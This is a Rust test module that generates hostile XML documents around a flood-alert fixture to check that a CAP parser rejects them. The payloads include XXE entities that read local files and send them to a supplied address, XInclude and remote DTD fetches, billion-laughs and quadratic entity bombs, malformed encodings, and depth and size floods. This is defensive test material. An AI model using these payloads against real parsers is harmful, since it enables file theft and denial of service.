//! Documents that mean harm, each with its name. All of them must be refused, in little time and
//! memory, without a look at any file or network. Also used by the test of the real binary.

/// The largest document there may be.
const SIZE: usize = 4 * 1024 * 1024;
const CAP: &str = "urn:oasis:names:tc:emergency:cap:1.2";
const FLOOD: &str = include_str!("../fixtures/flood-alert.xml");

/// A name and the bytes of a document.
pub type Attack = (&'static str, Vec<u8>);

/// Every attack. `file` and `web` are addresses that the documents ask the reader to visit.
pub fn all(file: &str, web: &str) -> Vec<Attack> {
    let mut all = outward(file, web);
    all.extend(encodings());
    all.extend(nested());
    all.extend(floods());
    all.extend(wide());
    all
}

/// The flood alert with something before its first area.
fn inside(piece: &str) -> Vec<u8> {
    FLOOD
        .replacen("<area>", &format!("{piece}<area>"), 1)
        .into_bytes()
}

/// The flood alert with something before its root element.
fn before_root(piece: &str) -> Vec<u8> {
    FLOOD
        .replacen("<alert", &format!("{piece}<alert"), 1)
        .into_bytes()
}

/// A piece again and again, up to the size of a document.
fn fill(piece: &str) -> String {
    piece.repeat((SIZE - FLOOD.len() - 200) / piece.len())
}

fn numbered(count: usize, piece: impl Fn(usize) -> String) -> String {
    (0..count).map(piece).collect::<Vec<_>>().concat()
}

/// Documents that name files and addresses.
fn outward(file: &str, web: &str) -> Vec<Attack> {
    let entity = |declaration: String| {
        let text = FLOOD.replacen("<area>", "<contact>&x;</contact><area>", 1);
        text.replacen(
            "<alert",
            &format!("<!DOCTYPE alert [{declaration}]><alert"),
            1,
        )
        .into_bytes()
    };
    let include = "xmlns:xi='http://www.w3.org/2001/XInclude'";
    let laugh = |n: usize| format!("<!ENTITY x{} '{}'>", n + 1, format!("&x{n};").repeat(10));
    let laughs = format!(
        "<!ENTITY x0 'ha'>{}<!ENTITY x '&x39;'>",
        numbered(39, laugh)
    );
    let quadratic = format!("<!ENTITY x '{}'>", "a".repeat(100_000));
    vec![
        (
            "a file as an entity",
            entity(format!("<!ENTITY x SYSTEM '{file}'>")),
        ),
        (
            "an address as an entity",
            entity(format!("<!ENTITY x SYSTEM '{web}entity'>")),
        ),
        (
            "a public entity",
            entity(format!("<!ENTITY x PUBLIC '-//a//b' '{web}public'>")),
        ),
        (
            "a parameter entity",
            entity(format!("<!ENTITY % p SYSTEM '{web}parameter'> %p;")),
        ),
        (
            "an entity that would send a file away",
            entity(format!(
                "<!ENTITY % f SYSTEM '{file}'><!ENTITY % s \"<!ENTITY x SYSTEM '{web}?%f;'>\">%s;"
            )),
        ),
        (
            "a document type from an address",
            before_root(&format!("<!DOCTYPE alert SYSTEM '{web}dtd'>")),
        ),
        (
            "a document type from a file",
            before_root(&format!("<!DOCTYPE alert SYSTEM '{file}'>")),
        ),
        ("billion laughs", entity(laughs)),
        (
            "an entity of itself",
            entity("<!ENTITY x '&x;'>".to_owned()),
        ),
        (
            "quadratic blow-up",
            entity(quadratic)
                .into_iter()
                .chain("&x;".repeat(30_000).into_bytes())
                .collect(),
        ),
        (
            "default attributes",
            entity("<!ATTLIST area b CDATA 'c'><!ENTITY x 'y'>".to_owned()),
        ),
        (
            "XInclude of a file",
            inside(&format!(
                "<xi:include {include} href='{file}' parse='text'/>"
            )),
        ),
        (
            "XInclude of an address",
            inside(&format!("<xi:include {include} href='{web}include'/>")),
        ),
        (
            "XInclude in a text",
            inside(&format!(
                "<contact><xi:include {include} href='{file}' parse='text'/></contact>"
            )),
        ),
        (
            "a stylesheet",
            before_root(&format!(
                "<?xml-stylesheet href='{web}style' type='text/xsl'?>"
            )),
        ),
        (
            "a schema to fetch, and a type of it",
            FLOOD
                .replacen(
                    "<alert",
                    &format!(
                        "<alert xmlns:i='http://www.w3.org/2001/XMLSchema-instance' \
                         i:schemaLocation='{CAP} {web}schema' i:type='evil'"
                    ),
                    1,
                )
                .into_bytes(),
        ),
        (
            "a base to resolve addresses by",
            FLOOD
                .replacen("<alert", &format!("<alert xml:base='{web}'"), 1)
                .into_bytes(),
        ),
    ]
}

/// Documents that different readers read differently.
fn encodings() -> Vec<Attack> {
    let utf16 = |swap: bool| -> Vec<u8> {
        let bytes = |unit: u16| {
            if swap {
                unit.to_be_bytes()
            } else {
                unit.to_le_bytes()
            }
        };
        FLOOD.encode_utf16().flat_map(bytes).collect()
    };
    let utf32 = |swap: bool| -> Vec<u8> {
        let bytes = |c: char| {
            let unit = u32::from(c);
            if swap {
                unit.to_be_bytes()
            } else {
                unit.to_le_bytes()
            }
        };
        FLOOD.chars().flat_map(bytes).collect()
    };
    let with = |mark: &[u8], text: Vec<u8>| -> Vec<u8> { [mark, &text].concat() };
    let declared = |declaration: &str, text: &[u8]| [declaration.as_bytes(), text].concat();
    let root = &FLOOD[FLOOD.find("<alert").expect("it has a root")..];
    let put = |bytes: &[u8]| {
        let at = FLOOD.find("<area>").expect("it has an area");
        [
            &FLOOD.as_bytes()[..at],
            b"<contact>",
            bytes,
            b"</contact>",
            &FLOOD.as_bytes()[at..],
        ]
        .concat()
    };
    let start = FLOOD.len() - root.len();
    let encoded = |name: &str, bytes: &[u8]| {
        let declaration = format!("<?xml version='1.0' encoding='{name}'?>");
        declared(&declaration, &put(bytes)[start..])
    };
    vec![
        ("UTF-16, little end first", utf16(false)),
        ("UTF-16, big end first", utf16(true)),
        ("UTF-16 with its mark, little end first", with(b"\xFF\xFE", utf16(false))),
        ("UTF-16 with its mark, big end first", with(b"\xFE\xFF", utf16(true))),
        ("UTF-32, little end first", utf32(false)),
        ("UTF-32, big end first", utf32(true)),
        ("UTF-32 with its mark, little end first", with(b"\xFF\xFE\0\0", utf32(false))),
        ("UTF-32 with its mark, big end first", with(b"\0\0\xFE\xFF", utf32(true))),
        ("UTF-8 behind the mark of UTF-16", with(b"\xFF\xFE", FLOOD.into())),
        ("UTF-7 that says so", declared("<?xml version='1.0' encoding='UTF-7'?>+ADw-a/+AD4-", b"")),
        ("UTF-7 that says nothing", b"+ADw-alert xmlns+AD0-'u'+AD4APA-/alert+AD4-".to_vec()),
        ("EBCDIC", b"\x4C\x6F\xA7\x94\x93\x40\xA5\x85\x99\xA2\x89\x96\x95\x7E\x7F\xF1\x4B\xF0\x7F\x6F\x6E\x4C\x81\x61\x6E".to_vec()),
        ("two byte order marks", with(b"\xEF\xBB\xBF\xEF\xBB\xBF", FLOOD.into())),
        ("a byte order mark after the declaration", declared("<?xml version='1.0'?>\u{feff}", root.as_bytes())),
        ("half a byte order mark", with(b"\xEF\xBB", FLOOD.into())),
        ("XML 1.1", declared("<?xml version='1.1'?>", root.as_bytes())),
        ("XML 1.1 with a control character", declared("<?xml version='1.1'?>", root.replacen("<area>", "<contact>&#1;</contact><area>", 1).as_bytes())),
        ("an encoding that the bytes are not", declared("<?xml version='1.0' encoding='UTF-16'?>", root.as_bytes())),
        ("UTF-8 that is Latin-1", put(b"\xE9t\xE9")),
        ("Latin-1 behind the mark of UTF-8", with(b"\xEF\xBB\xBF", encoded("ISO-8859-1", b"caf\xE9"))),
        ("Latin-1 that doubles to more than there may be", encoded("ISO-8859-1", &vec![0xE9; SIZE - FLOOD.len()])),
        ("Latin-1 that nearly doubles to that, with line ends", encoded("ISO-8859-1", &[b"<b/>".as_slice(), &b"\xA0\r".repeat(SIZE / 4)].concat())),
        ("Latin-1 with a NUL", encoded("ISO-8859-1", b"\0")),
        ("Latin-1 that declares UTF-8 too", declared("<?xml version='1.0' encoding='ISO-8859-1' encoding='UTF-8'?>", root.as_bytes())),
        ("ASCII that is Latin-1", encoded("US-ASCII", b"caf\xE9")),
        ("ASCII that is UTF-8", encoded("US-ASCII", "café".as_bytes())),
        ("windows-1252", encoded("windows-1252", b"\x93now\x94")),
        ("EBCDIC that only says so", encoded("IBM037", b"x")),
        ("an encoding without name", declared("<?xml version='1.0' encoding=''?>", root.as_bytes())),
        ("an overlong `<`", put(b"\xC0\xBCscript>")),
        ("an overlong NUL", put(b"\xC0\x80")),
        ("an overlong slash of three bytes", put(b"\xE0\x80\xAF")),
        ("half of a surrogate pair", put(b"\xED\xA0\x80")),
        ("a surrogate pair as two characters", put(b"\xED\xA0\xBD\xED\xB8\x80")),
        ("a character beyond Unicode", put(b"\xF4\x90\x80\x80")),
        ("a character of five bytes", put(b"\xF8\x88\x80\x80\x80")),
        ("a character cut short", put(b"\xE2\x82")),
        ("NUL", put(b"\0")),
        ("NUL as a reference", put(b"&#0;")),
        ("NUL after the document", with(FLOOD.as_bytes(), b"\0".to_vec())),
        ("a control character", put(b"\x1B[2J")),
        ("no character at all", put("\u{FFFF}".as_bytes())),
        ("nothing but NUL", vec![0; SIZE]),
        ("nothing", Vec::new()),
    ]
}

/// Depth.
fn nested() -> Vec<Attack> {
    let deep = |count: usize| ("<a>".repeat(count) + &"</a>".repeat(count)).into_bytes();
    let layer = |n: usize| format!("<info xmlns:p{n}='u{n}' xmlns='v{n}'>");
    vec![
        ("200,000 levels", deep(200_000)),
        (
            "200,000 levels that never end",
            "<a>".repeat(200_000).into_bytes(),
        ),
        (
            "200,000 levels inside an alert",
            inside(&String::from_utf8(deep(200_000)).expect("ASCII")),
        ),
        ("200,000 levels in a signature", {
            let deep = String::from_utf8(deep(200_000)).expect("ASCII");
            let signature =
                format!("<Signature xmlns='http://www.w3.org/2000/09/xmldsig#'>{deep}</Signature>");
            FLOOD
                .replacen("</alert>", &format!("{signature}</alert>"), 1)
                .into_bytes()
        }),
        (
            "namespaces on every level",
            inside(&numbered(80_000, layer)),
        ),
        (
            "alerts in alerts",
            format!("<alert xmlns='{CAP}'>").repeat(70_000).into_bytes(),
        ),
    ]
}

/// One thing, up to the size of a document.
fn floods() -> Vec<Attack> {
    let whole = |piece: &str| piece.repeat(SIZE / piece.len()).into_bytes();
    let opened = |piece: &str| {
        let end = FLOOD.find("<area>").expect("it has an area");
        format!("{}{}", &FLOOD[..end], fill(piece)).into_bytes()
    };
    vec![
        ("4 MiB of `<`", whole("<")),
        ("4 MiB of `&`", whole("&")),
        ("4 MiB of `&amp;`", whole("&amp;")),
        ("4 MiB of `&amp;` in an alert", inside(&fill("&amp;"))),
        ("4 MiB of `]]>`", whole("]]>")),
        ("4 MiB of `<!--`", whole("<!--")),
        ("4 MiB of comments", whole("<!---->")),
        ("4 MiB of comments and text", inside(&fill("x<!---->"))),
        ("4 MiB of `<![CDATA[`", whole("<![CDATA[")),
        ("4 MiB of CDATA", inside(&fill("<![CDATA[]]>"))),
        ("4 MiB of processing instructions", whole("<?a?>")),
        (
            "4 MiB of processing instructions in an alert",
            inside(&fill("<?a?>")),
        ),
        ("4 MiB of document types", whole("<!DOCTYPE a>")),
        ("4 MiB of end tags", whole("</a>")),
        ("4 MiB of start tags", whole("<a>")),
        ("4 MiB of empty elements", inside(&fill("<a/>"))),
        (
            "4 MiB of `=` in a text",
            inside(&format!("<contact>{}</contact>", fill("="))),
        ),
        (
            "4 MiB of `<` in a comment",
            inside(&format!("<!--{}-->", fill("<"))),
        ),
        (
            "4 MiB of `<` in CDATA",
            inside(&format!("<contact><![CDATA[{}]]></contact>", fill("<"))),
        ),
        ("4 MiB of quotes", whole("<a b='\"'")),
        ("4 MiB of spaces", whole(" ")),
        ("4 MiB of line ends", whole("\r")),
        ("4 MiB of line ends in an unclosed alert", opened("\r")),
        ("4 MiB of references that never end", opened("&#x")),
        ("4 MiB of polygon in an unclosed alert", opened("1,2 ")),
        ("4 MiB of text beside elements", inside(&fill("x"))),
        ("one byte too many", vec![b' '; SIZE + 1]),
        ("64 MiB", vec![b'<'; 64 * 1024 * 1024]),
    ]
}

/// Attributes, names and namespaces.
fn wide() -> Vec<Attack> {
    let attributes = |count: usize| numbered(count, |n| format!(" a{n}=''"));
    vec![
        (
            "4 MiB of attributes",
            format!("<a{}/>", attributes(400_000)).into_bytes(),
        ),
        (
            "4 MiB of attributes in an alert",
            inside(&format!("<a{}/>", attributes(300_000))),
        ),
        (
            "4 MiB of one attribute",
            inside(&format!("<a{}/>", fill(" b=''"))),
        ),
        (
            "an attribute of 4 MiB",
            inside(&format!("<a b='{}'/>", fill("x"))),
        ),
        (
            "an attribute of 4 MiB of references",
            inside(&format!("<a b='{}'/>", fill("&#65;"))),
        ),
        (
            "an attribute of 4 MiB that never ends",
            inside(&format!("<a b='{}", fill("x"))),
        ),
        ("a name of 4 MiB", inside(&format!("<{}/>", fill("x")))),
        ("a prefix of 4 MiB", inside(&format!("<{}:a/>", fill("x")))),
        (
            "a namespace of 4 MiB",
            inside(&format!("<a xmlns='{}'/>", fill("u"))),
        ),
        ("a namespace of 4 MiB, thousands of times", {
            let child = format!("<a xmlns='{}'>", "u".repeat(2_000_000));
            inside(&format!("{child}{}</a>", "<b/>".repeat(9_000)))
        }),
        (
            "4 MiB of namespaces",
            inside(&format!(
                "<a{}/>",
                numbered(200_000, |n| format!(" xmlns:p{n}='u'"))
            )),
        ),
        (
            "4 MiB of namespaces in many elements",
            inside(&numbered(130_000, |n| format!("<a xmlns:p{n}='u{n}'/>"))),
        ),
        (
            "thousands of elements with the most attributes",
            inside(&numbered(9_000, |n| {
                format!("<a b{n}='' c='' xmlns='u{n}'/>")
            })),
        ),
        (
            "thousands of unknown elements with long names",
            inside(&format!("<{}/>", "y".repeat(400)).repeat(9_000)),
        ),
        (
            "thousands of wrong words",
            inside(&numbered(9_000, |n| {
                format!("<category>{n}{}</category>", "z".repeat(400))
            })),
        ),
        ("thousands of prefixes on one path", {
            let element = |n: usize| format!("<p{0}:a xmlns:p{0}='u{n}'/>", n % 32);
            inside(&numbered(9_900, element))
        }),
    ]
}
